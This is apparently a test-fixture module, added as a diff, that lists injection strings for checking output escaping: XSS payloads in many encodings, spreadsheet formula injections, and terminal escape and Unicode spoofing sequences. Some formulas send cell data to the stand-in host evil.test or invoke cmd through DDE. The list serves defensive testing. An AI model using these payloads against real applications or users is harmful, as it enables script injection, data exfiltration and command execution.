@@ -1,0 +1,108 @@
+"""Texts that want to be more than texts, wherever they are shown."""
+
+from __future__ import annotations
+
+from typing import Final
+
+__all__ = ["FORMULAS", "MARKUP", "TERMINAL"]
+
+#: Each calls `alert`, or asks for `/ran`, if it is anything else than text.
+MARKUP: Final = (
+    "<script>alert(1)</script>",
+    "<ScRiPt >alert(1)</sCrIpT >",
+    "<script src=/ran></script>",
+    "<script type=module>import '/ran'</script>",
+    "</script><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea></style><script>alert(1)</script>",
+    "<!--><script>alert(1)</script-->",
+    "]]><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=/ran>",
+    "<img/src/onerror=alert(1)>",
+    '"><img src=/ran onerror=alert(1)>',
+    "'><img src=/ran onerror=alert(1)>",
+    "`><img src=/ran onerror=alert(1)>",
+    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
+    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
+    "x\tonload=alert(1)\tx=",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
+    "<math><mtext><mglyph><style><!--</style><img title='--><img src=/ran>'>",
+    "<noscript><p title='</noscript><img src=/ran onerror=alert(1)>'>",
+    "<template shadowrootmode=open><img src=/ran></template>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<iframe src=javascript:parent.alert(1)></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src=/ran>",
+    "<link rel=stylesheet href=/ran>",
+    "<style>@import '/ran';</style>",
+    "<div style='background:url(/ran)'>",
+    "<base href=/ran/>",
+    "<meta http-equiv=refresh content='0;url=/ran'>",
+    "<form action=/ran><button autofocus onfocus=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "javascript:alert(1)",
+    "[x](javascript:alert(1))",
+    "data:text/html,<script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}{% raw %}#{alert(1)}<%= alert(1) %>",
+    "__proto__",
+    "\u2028</script><script>alert(1)</script>",
+    "\u202e>tpircs<)1(trela>tpircs/<",
+    "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
+    "data: {}\n\nevent: x\ndata: <script>alert(1)</script>",
+)
+
+#: What a spreadsheet would compute.
+FORMULAS: Final = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "＝1+1",  # noqa: RUF001 - the wide one
+    '=HYPERLINK("http://evil.test/?"&A1,"open")',
+    "=cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
+    "-2+3+cmd|' /C calc'!A0",
+    '";=1+1;"',
+    '",=1+1,"',
+    "a\r\n=1+1",
+)
+
+#: What a terminal would obey, and what makes a text look like another one.
+TERMINAL: Final = (
+    "\x1b[2J\x1b[H",
+    "\x1b]0;title\x07",
+    "\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\",
+    "\x1bP$q\x1b\\",
+    "\x9b31m",
+    "\x9d0;t\x9c",
+    "a\rb",
+    "a\nINFO fake",
+    "a\tb",
+    "a\x08\x08b",
+    "\x7f",
+    "\u202egnp.exe",
+    "\u2066a\u2069",
+    "a\u2028b",
+    "\u200b",
+    "\ufeff",
+    "\U000e0041",
+)
